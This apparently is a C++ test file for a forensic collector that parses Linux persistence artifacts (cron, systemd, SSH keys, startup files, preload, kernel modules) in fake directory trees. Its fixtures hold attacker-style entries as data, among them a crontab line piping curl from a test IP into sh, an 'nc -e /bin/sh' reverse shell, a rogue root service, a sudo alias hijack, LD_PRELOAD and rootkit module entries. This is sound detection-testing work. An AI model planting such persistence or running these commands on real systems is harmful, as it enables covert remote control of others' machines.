// Native persistence collectors (cron, systemd, ssh keys, start-up files, preload, modules)
// and the bodyfile, run on fake asset trees.
#include <sys/stat.h>

#include "artifact_test_support.hpp"

namespace collector::test {
namespace {

constexpr const char* kPasswd =
    "root:x:0:0:root:/root:/bin/bash\n"
    "alice:x:1000:1000::/home/alice:/bin/bash\n"
    "svc:x:998:998::/srv/svc:/usr/sbin/nologin\n"
    "nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n";

TEST(Cron, EveryCrontabKind) {
  FakeRoot root;
  root.write("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n");
  root.write("/etc/cron.d/.hidden", "@reboot root /dev/shm/.x\n");
  root.write("/var/spool/cron/crontabs/alice",
             "# DO NOT EDIT\n*/5 * * * * curl -s http://203.0.113.5/p | sh\n", 0600);
  root.write("/etc/cron.daily/logrotate", "#!/bin/sh\n", 0755);
  root.write("/etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\n");
  root.write("/var/spool/cron/atjobs/a0001", "#!/bin/sh\nnc -e /bin/sh 203.0.113.5 4444\n", 0700);
  auto run = run_native("persistence_cron", root.path());
  const auto& rows = run.ctx->rows("cron_jobs");
  ASSERT_EQ(rows.size(), 5u);
  const auto& hidden = find_row(rows, "file", "/etc/cron.d/.hidden");
  EXPECT_EQ(text(hidden, "schedule"), "@reboot");
  EXPECT_EQ(text(hidden, "user"), "root");
  EXPECT_EQ(text(hidden, "command"), "/dev/shm/.x");
  const auto& user = find_row(rows, "file", "/var/spool/cron/crontabs/alice");
  EXPECT_EQ(text(user, "user"), "alice");
  EXPECT_EQ(integer(user, "line"), 2);
  EXPECT_EQ(text(user, "command"), "curl -s http://203.0.113.5/p | sh");
  const auto& daily = find_row(rows, "file", "/etc/cron.daily/logrotate");
  EXPECT_EQ(text(daily, "schedule"), "@daily");
  EXPECT_TRUE(is_null(daily, "line"));
  EXPECT_EQ(text(find_row(rows, "file", "/etc/anacrontab"), "schedule"), "1 5 cron.daily");
  for (const char* f :
       {"/etc/crontab", "/etc/cron.d/.hidden", "/var/spool/cron/crontabs/alice",
        "/etc/cron.daily/logrotate", "/etc/anacrontab", "/var/spool/cron/atjobs/a0001"})
    EXPECT_TRUE(run.ctx->collected(f)) << f;
}

TEST(Systemd, UnitsEnablementMasksDropInsAndUserUnits) {
  FakeRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write(
      "/etc/systemd/system/evil.service",
      "[Unit]\nDescription=Update helper\n[Service]\nExecStart=/usr/local/bin/.upd -q\nUser=root\n"
      "[Install]\nWantedBy=multi-user.target\n");
  root.symlink("/etc/systemd/system/evil.service",
               "/etc/systemd/system/multi-user.target.wants/evil.service");
  root.write("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
  root.write("/usr/lib/systemd/system/getty@.service", "[Service]\nExecStart=-/sbin/agetty %I\n");
  root.symlink("/usr/lib/systemd/system/getty@.service",
               "/etc/systemd/system/getty.target.wants/getty@tty1.service");
  root.symlink("/dev/null", "/etc/systemd/system/auditd.service");
  root.write("/etc/systemd/system/ssh.service.d/override.conf",
             "[Service]\nExecStart=\nExecStart=/tmp/sshd\n");
  root.write("/home/alice/.config/systemd/user/miner.timer",
             "[Timer]\nOnBootSec=1min\nUnit=miner.service\n");
  root.write("/etc/systemd/system/README", "not a unit\n");
  root.symlink("usr/lib", "/lib");  // merged /usr: /lib/systemd/system is not walked twice

  auto run = run_native("persistence_systemd", root.path());
  const auto& rows = run.ctx->rows("systemd_units");
  ASSERT_EQ(rows.size(), 6u);
  const auto& evil = find_row(rows, "path", "/etc/systemd/system/evil.service");
  EXPECT_EQ(text(evil, "name"), "evil.service");
  EXPECT_EQ(text(evil, "type"), "service");
  EXPECT_EQ(text(evil, "scope"), "system");
  EXPECT_EQ(integer(evil, "enabled"), 1);
  EXPECT_EQ(integer(evil, "masked"), 0);
  EXPECT_EQ(text(evil, "exec_start"), "/usr/local/bin/.upd -q");
  EXPECT_EQ(text(evil, "description"), "Update helper");
  EXPECT_EQ(text(evil, "wanted_by"), "multi-user.target");
  EXPECT_EQ(text(evil, "user"), "root");
  EXPECT_EQ(integer(find_row(rows, "path", "/usr/lib/systemd/system/ssh.service"), "enabled"), 0);
  EXPECT_EQ(integer(find_row(rows, "path", "/usr/lib/systemd/system/getty@.service"), "enabled"),
            1);
  const auto& masked = find_row(rows, "path", "/etc/systemd/system/auditd.service");
  EXPECT_EQ(integer(masked, "masked"), 1);
  EXPECT_EQ(text(masked, "link_target"), "/dev/null");
  const auto& dropin = find_row(rows, "path", "/etc/systemd/system/ssh.service.d/override.conf");
  EXPECT_EQ(text(dropin, "type"), "dropin");
  EXPECT_EQ(text(dropin, "name"), "ssh.service");
  EXPECT_EQ(text(dropin, "exec_start"), "/tmp/sshd");
  const auto& timer = find_row(rows, "name", "miner.timer");
  EXPECT_EQ(text(timer, "scope"), "user");
  EXPECT_EQ(text(timer, "timer"), "OnBootSec=1min");
  EXPECT_EQ(text(timer, "trigger_unit"), "miner.service");
  EXPECT_TRUE(run.ctx->collected("/etc/systemd/system/evil.service"));
  EXPECT_FALSE(run.ctx->collected("/etc/systemd/system/auditd.service"));  // a link, not a file
}

TEST(SshKeys, EveryHomeAndAuthorizedKeysFile) {
  const std::string ed = "AAAAC3NzaC1lZDI1NTE5AAAAIJUGR9y08COQhpnT2yFXHwH0pPw4C9WNoJC9YZDrUpF6";
  FakeRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/ssh/sshd_config",
             "Port 22\nAuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n");
  root.write("/root/.ssh/authorized_keys",
             "from=\"10.0.0.0/8\" ssh-ed25519 " + ed + " backdoor@attacker\n", 0600);
  root.write("/srv/svc/.ssh/authorized_keys2", "ssh-ed25519 " + ed + "\n", 0600);
  root.write("/etc/ssh/keys/alice", "ssh-ed25519 " + ed + " alice@laptop\n");
  auto run = run_native("persistence_ssh_keys", root.path());
  const auto& rows = run.ctx->rows("ssh_authorized_keys");
  ASSERT_EQ(rows.size(), 3u);
  const auto& r = find_row(rows, "file", "/root/.ssh/authorized_keys");
  EXPECT_EQ(text(r, "user"), "root");
  EXPECT_EQ(text(r, "key_type"), "ssh-ed25519");
  EXPECT_EQ(text(r, "fingerprint"), "SHA256:0ctIxGxPj5UrcD/NnXsqCO9lsPKR1+KUqoYnyo9PEGo");
  EXPECT_EQ(text(r, "comment"), "backdoor@attacker");
  EXPECT_EQ(text(r, "options"), "from=\"10.0.0.0/8\"");
  EXPECT_EQ(integer(r, "line"), 1);
  EXPECT_EQ(text(find_row(rows, "file", "/etc/ssh/keys/alice"), "user"), "alice");
  EXPECT_EQ(text(find_row(rows, "file", "/srv/svc/.ssh/authorized_keys2"), "user"), "svc");
  EXPECT_TRUE(run.ctx->collected("/srv/svc/.ssh/authorized_keys2"));
}

TEST(ShellStartup, SystemAndPerHomeFiles) {
  FakeRoot root;
  root.write("/etc/passwd", kPasswd);
  root.write("/etc/profile", "export PATH\n");
  root.write("/etc/profile.d/zz-evil.sh", "(/tmp/.x &)\n");
  root.write("/home/alice/.bashrc", "alias sudo='/tmp/.s'\n");
  root.write("/srv/svc/.profile", "x\n");
  auto run = run_native("persistence_shell_startup", root.path());
  const auto& rows = run.ctx->rows("shell_startup_files");
  ASSERT_EQ(rows.size(), 4u);
  EXPECT_TRUE(is_null(find_row(rows, "path", "/etc/profile.d/zz-evil.sh"), "user"));
  const auto& bashrc = find_row(rows, "path", "/home/alice/.bashrc");
  EXPECT_EQ(text(bashrc, "user"), "alice");
  EXPECT_EQ(integer(bashrc, "size"), 21);
  EXPECT_EQ(text(find_row(rows, "path", "/srv/svc/.profile"), "user"), "svc");
  EXPECT_EQ(run.ctx->files.size(), 4u);
}

TEST(LdPreload, EntriesOfPreloadAndEnvironment) {
  FakeRoot root;
  root.write("/etc/ld.so.preload", "# hidden\n/usr/lib/libsys.so:/lib/x.so  /opt/y.so\n");
  root.write("/etc/environment", "PATH=/usr/bin\nLD_PRELOAD=/dev/shm/z.so\n");
  root.write("/etc/ld.so.conf.d/evil.conf", "/dev/shm\n");
  auto run = run_native("persistence_ld_preload", root.path());
  const auto& rows = run.ctx->rows("ld_preload");
  ASSERT_EQ(rows.size(), 4u);
  EXPECT_EQ(integer(find_row(rows, "entry", "/lib/x.so"), "line"), 2);
  EXPECT_EQ(text(find_row(rows, "entry", "/opt/y.so"), "file"), "/etc/ld.so.preload");
  EXPECT_EQ(text(find_row(rows, "file", "/etc/environment"), "entry"), "LD_PRELOAD=/dev/shm/z.so");
  EXPECT_TRUE(run.ctx->collected("/etc/ld.so.preload"));
  EXPECT_TRUE(run.ctx->collected("/etc/ld.so.conf.d/evil.conf"));
}

TEST(KernelModules, ConfigurationOnAnImage) {
  FakeRoot root;
  root.write("/etc/modules", "# modules\nloop\n");
  root.write("/etc/modules-load.d/x.conf", "diamorphine\n");
  root.write("/etc/modprobe.d/evil.conf",
             "install usb-storage /bin/sh -c '/tmp/x'\nblacklist pcspkr\n");
  auto run = run_native("persistence_kernel_modules", root.path());
  EXPECT_TRUE(run.ctx->rows("kernel_modules").empty());  // /proc/modules only on a live system
  const auto& rows = run.ctx->rows("kernel_module_config");
  ASSERT_EQ(rows.size(), 4u);
  EXPECT_EQ(text(find_row(rows, "module", "diamorphine"), "directive"), "load");
  const auto& install = find_row(rows, "directive", "install");
  EXPECT_EQ(text(install, "module"), "usb-storage");
  EXPECT_EQ(text(install, "arguments"), "/bin/sh -c '/tmp/x'");
  EXPECT_TRUE(is_null(find_row(rows, "module", "loop"), "arguments"));
}

TEST(KernelModules, LiveProcModules) {
  auto run = run_native("persistence_kernel_modules", "/");
  // Containers may show no modules; every row that is there is well formed.
  for (const auto& r : run.ctx->rows("kernel_modules")) EXPECT_FALSE(text(r, "name").empty());
  EXPECT_TRUE(run.ctx->errors.empty());
}

TEST(Bodyfile, MetadataOfConfiguredRoots) {
  FakeRoot root;
  root.write("/etc/hosts", "127.0.0.1 localhost\n");
  root.write("/usr/bin/passwd", "elf", 04755);
  root.symlink("/usr/bin/passwd", "/usr/bin/link");
  root.mkdir("/tmp/empty");
  root.symlink("usr/bin", "/bin");  // a root that is a link is recorded as the link
  root.write("/var/not_a_root", "");
  auto run = run_native("bodyfile", root.path());
  const auto& rows = run.ctx->rows("bodyfile");
  std::vector<std::string> names;
  for (const auto& r : rows) names.push_back(text(r, "name"));
  EXPECT_EQ(names, (std::vector<std::string>{"/etc", "/etc/hosts", "/usr/bin",
                                             "/usr/bin/link -> /usr/bin/passwd", "/usr/bin/passwd",
                                             "/bin -> usr/bin", "/tmp", "/tmp/empty"}));
  const auto& passwd = find_row(rows, "name", "/usr/bin/passwd");
  struct stat st {};
  ASSERT_EQ(::lstat(root.host("/usr/bin/passwd").c_str(), &st), 0);
  EXPECT_EQ(text(passwd, "md5"), "0");
  EXPECT_EQ(text(passwd, "mode_as_string"), "r/rrwsr-xr-x");
  EXPECT_EQ(integer(passwd, "inode"), static_cast<int64_t>(st.st_ino));
  EXPECT_EQ(integer(passwd, "size"), 3);
  EXPECT_EQ(integer(passwd, "mtime"), st.st_mtime);
  EXPECT_EQ(integer(passwd, "uid"), static_cast<int64_t>(st.st_uid));
  EXPECT_EQ(text(find_row(rows, "name", "/tmp/empty"), "mode_as_string").substr(0, 3), "d/d");
  EXPECT_TRUE(run.ctx->files.empty());  // metadata only
}

TEST(Bodyfile, StopsAtMaxEntries) {
  FakeRoot root;
  for (int i = 0; i < 20; ++i) root.write("/etc/f" + std::to_string(i), "");
  Catalog catalog = load_builtin_catalog();
  ArtifactDef def = *catalog.find_artifact("bodyfile");
  def.options["max_entries"] = {"5"};
  FakeContext ctx(def, root.path());
  find_native_collector("bodyfile")(ctx);
  EXPECT_EQ(ctx.rows("bodyfile").size(), 5u);
  ASSERT_EQ(ctx.notes.size(), 1u);
  EXPECT_NE(ctx.notes[0].find("max_entries"), std::string::npos);
}

}  // namespace
}  // namespace collector::test
